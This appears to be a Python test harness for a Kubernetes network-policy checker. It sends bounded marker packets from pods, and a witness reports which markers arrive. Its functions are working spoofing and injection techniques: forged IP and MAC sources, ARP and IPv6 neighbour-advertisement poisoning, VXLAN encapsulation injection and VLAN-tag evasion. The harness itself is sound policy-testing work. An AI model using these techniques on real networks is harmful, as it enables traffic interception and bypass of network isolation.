"""What runs inside of pods: attackers with nothing but sockets, and the witness in the victim that says what arrived.

    attacker.py ATTACK '{"marker": ..., ...}'     sends, says nothing; exit code 0
    attacker.py several '{"attacks": [...]}'      the same, one after the other
    attacker.py witness '{"seconds": ...}'        prints "ready", then each marker that reaches eth0, until its time is over

Standard library only: it runs with whatever Python the machine has. Attacks of PLAIN need no right at all; the others write
frames, for which a pod needs NET_RAW, as container runtimes give it by default. All are bounded: a handful of packets each.
"""

from __future__ import annotations

import fcntl
import json
import select
import signal
import socket
import struct
import sys
import time
from collections.abc import Callable, Mapping
from typing import Any

DEVICE = "eth0"
MARK = b"npctl-attack:"
REPEAT = 3
NEIGHBOUR_SECONDS = 2.0
BROADCAST = b"\xff" * 6
ARP, IPV4, IPV6 = 0x0806, 0x0800, 0x86DD
HARDWARE_REQUEST = 0x8927

Facts = Mapping[str, Any]


# ---- parts of packets ------------------------------------------------------------------------------------------------


def hardware() -> bytes:
    """This pod's own hardware address."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        answer = fcntl.ioctl(probe.fileno(), HARDWARE_REQUEST, struct.pack("256s", DEVICE.encode()))
    return answer[18:24]


def mac(text: str) -> bytes:
    return bytes.fromhex(text.replace(":", ""))


def next_hop(facts: Facts) -> bytes:
    """The hardware address that leads to the victim: given, or the gateway's, which the kernel has asked for by then."""
    if facts["next_hop"] != "gateway":
        return mac(facts["next_hop"])
    limit = time.monotonic() + NEIGHBOUR_SECONDS
    while time.monotonic() < limit:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asker:
            asker.sendto(b"?", ("192.0.2.1", 9))
        with open("/proc/self/net/arp", encoding="ascii") as table:
            for line in table.readlines()[1:]:
                if line.split()[3] != "00:00:00:00:00:00":
                    return mac(line.split()[3])
        time.sleep(0.01)
    raise SystemExit("the gateway does not answer")


def packed(address: str) -> bytes:
    return socket.inet_pton(socket.AF_INET6 if ":" in address else socket.AF_INET, address)


def checksum(data: bytes) -> int:
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def payload(facts: Facts) -> bytes:
    return MARK + facts["marker"].encode() + b";"


def ip(source: str, target: str, protocol: int, body: bytes, hops: int = 64) -> bytes:
    """A packet of either family with its right checksums."""
    ends = packed(source) + packed(target)
    place = {17: 6, 58: 2}.get(protocol)
    if place is not None and not (protocol == 17 and ":" not in source):
        pseudo = ends + struct.pack("!II", len(body), protocol)
        body = body[:place] + struct.pack("!H", checksum(pseudo + body)) + body[place + 2 :]
    if ":" in source:
        return struct.pack("!IHBB", 6 << 28, len(body), protocol, hops) + ends + body
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), 1, 0, hops, protocol, 0) + ends
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + body


def udp(source_port: int, port: int, data: bytes) -> bytes:
    return struct.pack("!HHHH", source_port, port, 8 + len(data), 0) + data


def frame(target: bytes, source: bytes, kind: int, body: bytes, tag: bytes = b"") -> bytes:
    return target + source + tag + struct.pack("!H", kind) + body


def send_frames(*frames: bytes) -> None:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.bind((DEVICE, 0))
        for _ in range(REPEAT):
            for one in frames:
                raw.send(one)


def kind_of(address: str) -> int:
    return IPV6 if ":" in address else IPV4


# ---- with nothing but sockets ----------------------------------------------------------------------------------------


def plain_udp(facts: Facts) -> None:
    """A datagram to an address and port as it is."""
    address = facts["target"]
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sender:
        sender.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        if facts.get("source_port"):
            sender.bind(("", facts["source_port"]))
        place: tuple[Any, ...] = (address, facts["port"])
        if address.startswith(("fe80", "ff02")):
            place = (address, facts["port"], 0, socket.if_nametoindex(DEVICE))
        for _ in range(REPEAT):
            sender.sendto(payload(facts), place)


def plain_vxlan(facts: Facts) -> None:
    """A whole frame in a datagram to a node's VXLAN port: the node unwraps it and forwards what is inside."""
    outer = _wrapped(facts)
    with socket.socket(socket.AF_INET6 if ":" in facts["node"] else socket.AF_INET, socket.SOCK_DGRAM) as sender:
        for _ in range(REPEAT):
            sender.sendto(outer, (facts["node"], facts["tunnel_port"]))


def _wrapped(facts: Facts) -> bytes:
    """A VXLAN header and the frame behind it."""
    inner = ip(facts["claimed"], facts["victim"], 17, udp(40000, facts["port"], payload(facts)))
    head = struct.pack("!BBHI", 8, 0, 0, facts["network"] << 8)
    return head + frame(mac(facts["vtep"]), b"\x02" * 6, kind_of(facts["victim"]), inner)


# ---- with frames -----------------------------------------------------------------------------------------------------


def forged_source(facts: Facts) -> None:
    """A datagram from somebody else's address, in a frame of one's own hardware address."""
    body = udp(40000, facts["port"], payload(facts))
    packet = ip(facts["claimed"], facts["victim"], 17, body)
    send_frames(frame(next_hop(facts), hardware(), kind_of(facts["victim"]), packet))


def forged_hardware(facts: Facts) -> None:
    """The same, with the other pod's hardware address too."""
    body = udp(40000, facts["port"], payload(facts))
    packet = ip(facts["claimed"], facts["victim"], 17, body)
    send_frames(frame(next_hop(facts), mac(facts["claimed_hardware"]), kind_of(facts["victim"]), packet))


def poisoned_connection(facts: Facts) -> None:
    """ "The victim has written to me", told to nobody's hardware address; then a plain datagram passes as the answer."""
    lie = ip(facts["victim"], facts["own"], 17, udp(facts["port"], 40001, b"hello"))
    nobody = next_hop(facts) if facts["next_hop"] == "gateway" else b"\x02\0\0\0\0\x99"
    send_frames(frame(nobody, hardware(), kind_of(facts["victim"]), lie))
    plain_udp({**facts, "target": facts["victim"], "source_port": 40001})


def vlan_tag(facts: Facts) -> None:
    """A frame with a VLAN tag of number 0, which receivers ignore."""
    packet = ip(facts["own"], facts["victim"], 17, udp(40000, facts["port"], payload(facts)))
    tag = struct.pack("!HH", 0x8100, 0)
    send_frames(frame(next_hop(facts), hardware(), kind_of(facts["victim"]), packet, tag))


def group_vxlan(facts: Facts) -> None:
    """The node's tunnel packets, to a group address that a bridge hands to the node by the port itself (IEEE 802.1Q)."""
    outer = ip(facts["outer"], facts["node"], 17, udp(40000, facts["tunnel_port"], _wrapped(facts)))
    send_frames(frame(mac(facts["group"]), hardware(), IPV4, outer))


def icmpv6(facts: Facts) -> None:
    """A message of neighbour discovery of any type, with any content."""
    body = struct.pack("!BBHI", facts["type"], 0, 0, 0) + payload(facts).ljust(24, b"\0")
    packet = ip(facts["source"], facts["victim"], 58, body, facts.get("hops", 255))
    send_frames(frame(next_hop(facts), hardware(), IPV6, packet))


def arp_lie(facts: Facts) -> None:
    """ "The other pod's address is at my hardware address." The marker stands behind the message, as padding."""
    message = (
        struct.pack("!HHBBH", 1, IPV4, 6, 4, 2)
        + hardware()
        + packed(facts["claimed"])
        + next_hop(facts)
        + packed(facts["victim"])
    )
    send_frames(frame(next_hop(facts), hardware(), ARP, message + payload(facts)))


def neighbour_lie(facts: Facts) -> None:
    """The same for IPv6: an unasked advertisement for somebody else's address."""
    option = struct.pack("!BB", 2, 1) + hardware()
    body = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + packed(facts["claimed"]) + option + payload(facts).ljust(40, b"\0")
    packet = ip(facts["own"], facts["victim"], 58, body, 255)
    send_frames(frame(next_hop(facts), hardware(), IPV6, packet))


def other_protocol(facts: Facts) -> None:
    """A frame of a protocol that no policy speaks of."""
    send_frames(frame(next_hop(facts), hardware(), 0x88B5, payload(facts).ljust(64, b"\0")))


ATTACKS: Mapping[str, Callable[[Facts], None]] = {
    f.__name__: f
    for f in (
        plain_udp,
        plain_vxlan,
        forged_source,
        forged_hardware,
        poisoned_connection,
        vlan_tag,
        group_vxlan,
        icmpv6,
        arp_lie,
        neighbour_lie,
        other_protocol,
    )
}


def several(facts: Facts) -> None:
    """One after the other: [name, facts] of each."""
    for name, its_facts in facts["attacks"]:
        ATTACKS[name](its_facts)


# ---- the witness -----------------------------------------------------------------------------------------------------


def witness(facts: Facts) -> None:
    """Print every marker that arrives at this pod's interface, whatever the packet around it, one a line."""
    stop: list[int] = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as raw:
        raw.bind((DEVICE, 3))
        print("ready", flush=True)
        seen: set[str] = set()
        limit = time.monotonic() + facts["seconds"]
        while not stop and time.monotonic() < limit:
            if not select.select([raw], [], [], 0.05)[0]:
                continue
            data, (_, _, direction, _, _) = raw.recvfrom(65536)
            place = data.find(MARK)
            if direction == socket.PACKET_OUTGOING or place < 0:
                continue
            marker = data[place + len(MARK) :].partition(b";")[0].decode("ascii", "replace")
            if marker not in seen:
                seen.add(marker)
                print(marker, flush=True)
            if marker == facts.get("until"):
                return


if __name__ == "__main__":
    {**ATTACKS, "several": several, "witness": witness}[sys.argv[1]](json.loads(sys.argv[2]))
